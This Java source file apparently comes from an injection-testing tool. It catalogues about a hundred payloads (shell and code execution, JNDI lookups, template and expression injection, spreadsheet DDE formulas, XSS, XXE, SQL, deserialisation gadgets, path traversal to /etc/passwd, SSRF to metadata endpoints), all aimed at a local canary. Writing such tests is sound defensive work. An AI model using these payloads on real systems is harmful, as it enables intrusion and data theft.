package io.proffer.injection;

import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;

/** Texts that would do something in some interpreter, each of another kind, all pointing at one canary. */
final class Payloads {
    private static final String TRIP = "io.proffer.injection.Canary.trip()";

    private final Map<String, String> byKind = new TreeMap<>();
    private final String host;
    private final String touch;

    Payloads(Canary canary) {
        host = "127.0.0.1:" + canary.port();
        touch = "touch " + canary.marker();
        code();
        rules();
        expressions();
        spreadsheets();
        markup();
        stores();
        texts();
    }

    /** Every payload by its kind. */
    Map<String, String> all() {
        return byKind;
    }

    List<String> kinds() {
        return new ArrayList<>(byKind.keySet());
    }

    private void add(String kind, String payload) {
        if (byKind.put(kind, payload) != null) {
            throw new IllegalArgumentException("Kind " + kind + " is there twice.");
        }
    }

    private void code() {
        add("java call", TRIP + ";");
        add("java statement break-out", "\"); " + TRIP + "; //");
        add("java condition break-out", "x\" || " + TRIP + " || \"");
        add("java exit", "System.exit(7)");
        add("java halt", "Runtime.getRuntime().halt(7);");
        add("java exec", "Runtime.getRuntime().exec(\"" + touch + "\")");
        add("java process", "new ProcessBuilder(\"sh\",\"-c\",\"" + touch + "\").start()");
        add("java reflection", "Class.forName(\"io.proffer.injection.Canary\").getMethod(\"trip\").invoke(null)");
        add("java file", "java.nio.file.Files.createFile(java.nio.file.Path.of(\"" + touch.substring(6) + "\"))");
        add("java unicode escape", "\\u0022); " + TRIP + "; //");
        add("java block comment", "*/ " + TRIP + "; /*");
        add("groovy", "@groovy.transform.ASTTest(value={assert " + TRIP + "}) def x");
        add("groovy gstring", "\"${" + TRIP + "}\"");
        add("javascript nashorn", "Java.type('io.proffer.injection.Canary').trip()");
        add("javascript constructor", "this.constructor.constructor('return process')().exit()");
        add("python", "__import__('os').system('" + touch + "')");
        add("ruby", "`" + touch + "`");
        add("shell substitution", "$(" + touch + ")");
        add("shell chain", "; " + touch + " ;");
        add("shell pipe", "| " + touch);
        add("powershell", "powershell -c \"Invoke-WebRequest http://" + host + "/\"");
    }

    private void rules() {
        add("drl eval", "eval(" + TRIP + ")");
        add("drl rule", "x\" ) then " + TRIP + "; end rule \"y\" when String( this == \"");
        add("drl function", "function void f() { " + TRIP + "; }");
        add("drl query", "query q() Canary() end");
        add("drl consequence", "then\n " + TRIP + ";\nend");
        add("drl import", "import static io.proffer.injection.Canary.*;");
        add("drl from", "String() from " + TRIP);
        add("drl accumulate", "accumulate( Object(), init(" + TRIP + ";) )");
        add("mvel", "@{" + TRIP + "}");
        add("mvel with", "with(io.proffer.injection.Canary) { trip() }");
        add("drools spreadsheet", "$param\"); " + TRIP + "; (\"");
        add("feel", "{a: function(x) external {java: {class: \"io.proffer.injection.Canary\"}}}");
    }

    private void expressions() {
        add("el", "${" + TRIP + "}");
        add("el deferred", "#{" + TRIP + "}");
        add("el reflection", "${''.getClass().forName('io.proffer.injection.Canary').trip()}");
        add("spel", "#{T(io.proffer.injection.Canary).trip()}");
        add("ognl", "%{@io.proffer.injection.Canary@trip()}");
        add("jndi ldap", "${jndi:ldap://" + host + "/x}");
        add("jndi rmi", "${jndi:rmi://" + host + "/x}");
        add("jndi nested", "${${lower:j}ndi:${lower:l}dap://" + host + "/x}");
        add("config expression", "${quarkus.datasource.password:${env:PATH}}");
        add("qute", "{io.proffer.injection.Canary:trip()}");
        add("handlebars", "{{#with \"s\" as |x|}}{{x.constructor.constructor}}{{/with}}");
        add("jinja", "{{ ''.__class__.__mro__[1].__subclasses__() }}");
        add("freemarker", "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"" + touch + "\")}");
        add("velocity", "#set($x='')$x.class.forName('io.proffer.injection.Canary').trip()");
        add("thymeleaf", "__${" + TRIP + "}__::.x");
    }

    private void spreadsheets() {
        add("dde", "=cmd|' /C " + touch + "'!A0");
        add("dde plus", "+cmd|' /C calc'!A0");
        add("dde at", "@SUM(1+9)*cmd|' /C calc'!A0");
        add("dde minus", "-2+3+cmd|' /C calc'!A0");
        add("hyperlink", "=HYPERLINK(\"http://" + host + "/?x=\"&A1,\"click\")");
        add("webservice", "=WEBSERVICE(\"http://" + host + "/\")");
        add("importxml", "=IMPORTXML(\"http://" + host + "/\",\"//a\")");
        add("rtd", "=RTD(\"x\",\"" + host + "\",\"y\")");
        add("external link", "='http://" + host + "/[x.xlsx]S'!A1");
        add("indirect", "=INDIRECT(\"A1\")");
        add("tab formula", "\t=1+1");
    }

    private void markup() {
        add("script", "<script src=\"http://" + host + "/x.js\"></script>");
        add("image handler", "<img src=x onerror=\"fetch('http://" + host + "/')\">");
        add("svg", "<svg/onload=alert(1)>");
        add("link scheme", "javascript:alert(document.domain)");
        add("css", "</style><style>@import 'http://" + host + "/x.css'");
        add("xxe", "<!DOCTYPE x [<!ENTITY e SYSTEM \"http://" + host + "/e\">]><x>&e;</x>");
        add("xxe file", "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>");
        add("xml bomb", "<!DOCTYPE x [<!ENTITY a \"aa\"><!ENTITY b \"&a;&a;\">]><x>&b;</x>");
        add("xinclude", "<xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" href=\"http://" + host + "/\"/>");
        add("xslt", "<?xml-stylesheet href=\"http://" + host + "/x.xsl\" type=\"text/xsl\"?>");
        add("cdata", "]]><x>" + TRIP + "</x><![CDATA[");
        add("server side include", "<!--#exec cmd=\"" + touch + "\" -->");
    }

    private void stores() {
        add("sql", "'; drop table account; --");
        add("sql union", "' union select password from users --");
        add("sql alias", "'; CREATE ALIAS T FOR \"io.proffer.injection.Canary.trip\"; CALL T(); --");
        add("h2 script", "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://" + host + "/x.sql'");
        add("hql", "x' or 1=1 or 'x'='");
        add("nosql", "{\"$where\": \"" + TRIP + "\"}");
        add("ldap filter", "*)(uid=*))(|(uid=*");
        add("xpath", "' or count(/*)=1 or 'a'='b");
    }

    private void texts() {
        add("yaml tag", "!!javax.script.ScriptEngineManager [!!java.net.URL [\"http://" + host + "/\"]]");
        add("yaml canary", "!!io.proffer.injection.Canary {}");
        add("jackson type", "[\"io.proffer.injection.Canary\", {}]");
        add("jackson class", "{\"@class\": \"io.proffer.injection.Canary\", \"url\": \"http://" + host + "/\"}");
        add("fastjson type", "{\"@type\":\"java.net.Inet4Address\",\"val\":\"" + host + "\"}");
        add("java serialised", "rO0ABXNyAB5pby5wcm9mZmVyLmluamVjdGlvbi5DYW5hcnkAAAAAAAAAAQIAAHhw");
        add("path up", "../../../../../../etc/passwd");
        add("path windows", "..\\..\\..\\windows\\win.ini");
        add("path encoded", "%2e%2e%2f%2e%2e%2fetc%2fpasswd");
        add("path file url", "file:///etc/passwd");
        add("request forgery", "http://" + host + "/latest/meta-data/");
        add("log lines", "ok\r\n2026-01-01 INFO admin approved everything");
        add("header lines", "x\r\nSet-Cookie: admin=1\r\n\r\n<html>");
        add("percent format", "%n%n%s%s%1$s%999999999d");
        add("prototype", "__proto__[admin]=true");
        add("right to left", "\u202Etxt.exe\u202C");
    }
}
